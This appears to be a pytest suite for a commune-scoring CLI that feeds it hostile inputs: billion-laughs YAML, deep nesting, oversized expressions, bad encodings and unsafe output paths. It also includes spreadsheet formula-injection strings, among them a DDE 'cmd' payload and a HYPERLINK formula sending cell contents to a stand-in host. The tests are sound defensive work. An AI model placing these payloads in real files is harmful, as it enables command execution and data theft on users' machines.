"""Every attack file of issue 13 (kept in files/, or generated here where large) run through the CLI in a
bounded child process: each ends in a clear message and a documented exit code, within 20 s and 500 MB."""

from __future__ import annotations

import csv
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from limits import FILES, ROOT, run_chuanxa

EXAMPLES = ROOT / "examples"
EXTENDS = """ruleset:
  id: bad_{name}
  version: 2023-03-20
  extends: qd1300@2023-03-20
  title: {{vi: x, en: x}}
  legal_basis: {{vi: x, en: x}}
  issued: 2023-03-20
  effective: 2023-03-20
inputs:
  hygienic_latrine_rate:
    expr: "{expr}"
"""


def _expression_ruleset(name: str, expr: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / f"{name}.yaml"
        path.write_text(EXTENDS.format(name=name, expr=expr), encoding="utf-8")
        return path
    return make


def _static(name: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        return Path(shutil.copy(FILES / name, folder / name))
    return make


def _written(name: str, text: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_text(text, encoding="utf-8")
        return path
    return make


# (id, how the file is made, command with {file}, exit codes allowed, words the message must hold)
COMMUNE_FILES = [
    ("billion_laughs", _static("billion_laughs.yaml"), 1, "safety limit"),
    ("self_referencing_alias", _static("self_alias.yaml"), 1, "contains it"),
    ("five_thousand_nested_brackets", _written("deep.yaml", "commune: " + "[" * 5000 + "]" * 5000 + "\n"), 1, "levels deep"),
    ("hundred_thousand_nested_json", _written("deep.json", '{"commune": ' + "[" * 100_000 + "]" * 100_000 + "}"), 1, "levels deep"),
    ("six_megabyte_yaml", _written("big.yaml", "commune: {code: '1', name: x}\nnote: '" + "x" * 6_000_000 + "'\n"), 1, "safety limit"),
    ("overflowing_numbers", _static("households_1e400.yaml"), 1, "is not valid"),
    ("latin1_yaml", _static("latin1.yaml"), 1, "not UTF-8"),
    ("utf16_yaml_without_mark", _static("utf16_no_bom.yaml"), 1, "UTF-16 without"),
]


@pytest.mark.parametrize(("make", "codes", "words"), [pytest.param(m, c, w, id=i) for i, m, c, w in COMMUNE_FILES])
def test_a_hostile_commune_file_is_a_clear_rejection_within_limits(tmp_path: Path, make: Callable[[Path], Path], codes: int, words: str) -> None:
    path = make(tmp_path)
    run = run_chuanxa(["score", str(path)], tmp_path)
    run.assert_clean({codes})
    assert words in run.err and path.name in run.err


def test_a_utf16_yaml_file_with_a_byte_order_mark_is_read(tmp_path: Path) -> None:
    run = run_chuanxa(["score", str(_static("utf16_bom.yaml")(tmp_path)), "--format", "json"], tmp_path)
    run.assert_clean({0})
    assert json.loads(run.out)["commune"]["name"] == "Xã Thiệu Giao"


def test_a_billion_laughs_ruleset_in_a_rulesets_folder_is_reported_and_the_others_still_listed(tmp_path: Path) -> None:
    folder = tmp_path / "rules"
    folder.mkdir()
    _static("billion_laughs_ruleset.yaml")(folder)
    run = run_chuanxa(["rulesets", "list", "--rulesets", str(folder)], tmp_path)
    run.assert_clean({0, 1, 2})
    assert "qd1300" in run.out and "safety limit" in run.err + run.out


EXPRESSIONS = [
    ("sum_of_501_terms", _expression_ruleset("sum501", " + ".join(["households"] * 501)), "characters"),
    ("sum_of_501_short_terms", _expression_ruleset("sum501short", "+".join(["1"] * 501)), "levels deep"),
    ("five_thousand_nots", _expression_ruleset("not5000", "not " * 5000 + "true"), "characters"),
    ("hundred_thousand_unary_minus", _expression_ruleset("neg100k", "-" * 100_000 + "households"), "characters"),
    ("six_hundred_unary_minus", _expression_ruleset("neg600", "-" * 600 + "households"), "levels deep"),
    ("huge_hex_literal", _static("hex_literal_ruleset.yaml"), "larger than"),
]


@pytest.mark.parametrize(("make", "words"), [pytest.param(m, w, id=i) for i, m, w in EXPRESSIONS])
def test_an_oversized_expression_is_a_ruleset_error_naming_file_and_line(tmp_path: Path, make: Callable[[Path], Path], words: str) -> None:
    path = make(tmp_path)
    run = run_chuanxa(["rulesets", "validate", str(path)], tmp_path)
    run.assert_clean({2})
    assert "too large" in run.err and words in run.err
    assert f"{path.name}, line 11, inputs.hygienic_latrine_rate.expr" in run.err


def _example_rows() -> list[list[str]]:
    with open(EXAMPLES / "thieu_hoa_2024.csv", encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def _formula_table(folder: Path) -> Path:
    rows = _example_rows()
    for row, text in zip(rows[1:], FORMULAS):
        row[1] = text  # the commune's name
    rows[6][0] = "=0+16039"  # a code
    path = folder / "formulas.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def test_names_that_look_like_formulas_stay_text_in_the_workbook_and_csv(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    table = _formula_table(tmp_path)
    run_chuanxa(["batch", str(table), "-o", "out.xlsx"], tmp_path).assert_clean({0, 1})
    book = load_workbook(tmp_path / "out.xlsx")
    assert not [c.coordinate for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
    names = [row[1] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert set(FORMULAS) <= set(names)
    run_chuanxa(["batch", str(table), "-o", "out.csv"], tmp_path).assert_clean({0, 1})
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as handle:
        written = {row[1] for row in csv.reader(handle)}
    assert {"'" + f for f in FORMULAS if f != "-2+3"} | {"'-2+3"} <= written
    run_chuanxa(["batch", str(table), "-o", "raw.csv", "--raw-csv"], tmp_path).assert_clean({0, 1})
    with open(tmp_path / "raw.csv", encoding="utf-8-sig", newline="") as handle:
        assert set(FORMULAS) <= {row[1] for row in csv.reader(handle)}


def test_a_control_character_in_one_name_rejects_that_commune_and_the_workbook_holds_the_rest(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    rows = _example_rows()
    rows[2][1] = "Xã \x07Chuông"
    table = tmp_path / "bell.csv"
    with open(table, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    run = run_chuanxa(["batch", str(table), "-o", "out.xlsx"], tmp_path)
    run.assert_clean({1})
    assert "control character U+0007" in run.err and "row 3" in run.err
    summary = load_workbook(tmp_path / "out.xlsx").worksheets[0]
    assert summary.max_row - 1 == len(rows) - 2  # every other commune scored and written


def _watch_stream(folder: Path) -> Path:
    good = (EXAMPLES / "updates.jsonl").read_text(encoding="utf-8").splitlines()
    lines = [good[0].encode(), b"[" * 100_000 + b"]" * 100_000, b'{"commune": "16039", "values": {"households": ' + b"9" * 400 + b"}}",
             b"\xff\xfe not text", b"x" * 2_500_000, good[1].encode()]
    path = folder / "updates.jsonl"
    path.write_bytes(b"\n".join(lines) + b"\n")
    return path


def test_watch_turns_deep_huge_long_and_undecodable_lines_into_error_events_and_goes_on(tmp_path: Path) -> None:
    run = run_chuanxa(["watch", str(_watch_stream(tmp_path)), "--state", "state.json"], tmp_path)
    run.assert_clean({0})
    events = [json.loads(line) for line in run.out.splitlines()]
    assert [e["line"] for e in events if e["event"] == "error"] == [2, 3, 4, 5]
    assert "longer than 1,000,000 characters" in next(e for e in events if e["line"] == 5)["message"]["en"]
    assert events[-1]["line"] == 6 and events[-1]["event"] != "error"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["state.json", "state.json.journal", "updates.jsonl"]


@pytest.mark.parametrize("content", ["{not json", '{"communes": []}', '{"communes": {"16039": {"data": {"commune": 5}}}}', "[" * 100_000])
def test_a_hand_broken_state_file_is_a_clear_error_naming_it(tmp_path: Path, content: str) -> None:
    (tmp_path / "state.json").write_text(content, encoding="utf-8")
    run = run_chuanxa(["watch", str(EXAMPLES / "updates.jsonl"), "--state", "state.json"], tmp_path)
    run.assert_clean({2})
    assert "The state file state.json is damaged" in run.err


def test_a_hard_link_to_the_input_is_refused_as_the_output(tmp_path: Path) -> None:
    table = Path(shutil.copy(EXAMPLES / "thieu_hoa_2024.csv", tmp_path / "data.csv"))
    os.link(table, tmp_path / "link.csv")
    before = table.read_bytes()
    run = run_chuanxa(["batch", str(table), "-o", "link.csv"], tmp_path)
    run.assert_clean({2})
    assert "is one of the input files" in run.err and table.read_bytes() == before


def test_a_read_only_output_file_is_refused_and_kept(tmp_path: Path) -> None:
    old = tmp_path / "old.json"
    old.write_text("{}", encoding="utf-8")
    old.chmod(0o444)
    run = run_chuanxa(["batch", str(EXAMPLES / "thieu_hoa_2024.csv"), "-o", "old.json"], tmp_path)
    run.assert_clean({2})
    assert "read-only" in run.err and old.read_text(encoding="utf-8") == "{}"


def test_a_link_to_a_device_is_refused_as_the_output(tmp_path: Path) -> None:
    (tmp_path / "r.pdf").symlink_to("/dev/full")
    (tmp_path / "r.json").symlink_to("/dev/null")
    for name, command in (("r.pdf", "report"), ("r.json", "batch")):
        run = run_chuanxa([command, str(EXAMPLES / "thieu_hoa_2024.csv"), "-o", name], tmp_path)
        run.assert_clean({2})
        assert "is not a regular file" in run.err


def test_an_unwritable_folder_is_a_clear_error_with_exit_2(tmp_path: Path, read_only_folder: Path) -> None:
    for name in ("out.json", "out.xlsx", "out.csv"):
        run = run_chuanxa(["batch", str(EXAMPLES / "thieu_hoa_2024.csv"), "-o", str(read_only_folder / name)], tmp_path)
        run.assert_clean({2})
        assert "Could not write" in run.err and "read-only" in run.err
    run = run_chuanxa(["watch", str(EXAMPLES / "updates.jsonl"), "--state", str(read_only_folder / "state.json")], tmp_path)
    run.assert_clean({2})
    assert "read-only" in run.err

